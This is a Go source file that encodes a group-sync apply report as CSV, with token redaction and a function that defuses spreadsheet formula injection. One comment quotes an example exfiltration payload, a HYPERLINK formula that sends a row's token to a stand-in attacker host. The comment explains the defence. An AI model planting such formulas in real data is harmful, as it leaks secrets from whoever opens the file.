// Package report encodes the apply report: one CSV row per group, with its
// action, status and token. It only encodes; the caller decides where the
// bytes go (an atomic 0600 file, since rows hold tokens).
package report

import (
	"encoding/csv"
	"io"
	"strconv"

	"groupsync/reconcile"
)

// Header is the report's first line, which scripts rely on.
var Header = []string{"user_group_id", "name", "action", "status", "new_user_group", "token", "api_environment_tag", "attempts", "http_status", "error"}

// Writer writes results as CSV rows.
type Writer struct {
	w      *csv.Writer
	redact bool
	rec    []string
}

// NewWriter writes the header to w and returns a Writer for the rows. With
// redact, the token column is left empty.
func NewWriter(w io.Writer, redact bool) (*Writer, error) {
	cw := csv.NewWriter(w)
	if err := cw.Write(Header); err != nil {
		return nil, err
	}
	return &Writer{w: cw, redact: redact, rec: make([]string, len(Header))}, nil
}

// Write writes the row of one result.
func (w *Writer) Write(r *reconcile.Result) error {
	token := r.Token
	if w.redact {
		token = ""
	}
	var errText string
	if r.Err != nil {
		errText = r.Err.Error()
	}
	w.rec = append(w.rec[:0], r.ID, r.Name, string(r.Action), string(r.Status), newGroup(r), token, r.EnvTag,
		optInt(r.Attempts), optInt(r.Code), errText)
	for i, cell := range w.rec {
		w.rec[i] = Neutralize(cell)
	}
	return w.w.Write(w.rec)
}

// Close flushes the rows and returns the first write error.
func (w *Writer) Close() error {
	w.w.Flush()
	return w.w.Error()
}

// Neutralize defuses a cell that a spreadsheet would take for a formula
// (OWASP's CSV injection advice): a customer named
// =HYPERLINK("http://evil.example/?t="&F2) must not send its row's token
// away when the report is opened. Such a cell gets a leading quote, which
// spreadsheets show as text and do not display.
func Neutralize(cell string) string {
	if cell == "" {
		return cell
	}
	switch cell[0] {
	case '=', '+', '-', '@', '\t', '\r', '\n':
		return "'" + cell
	}
	return cell
}

// newGroup is the create answer's new_user_group, for creates and adopts
// that got one.
func newGroup(r *reconcile.Result) string {
	if r.New == nil || r.Status != reconcile.StatusOK {
		return ""
	}
	return strconv.FormatBool(*r.New)
}

func optInt(n int) string {
	if n == 0 {
		return ""
	}
	return strconv.Itoa(n)
}
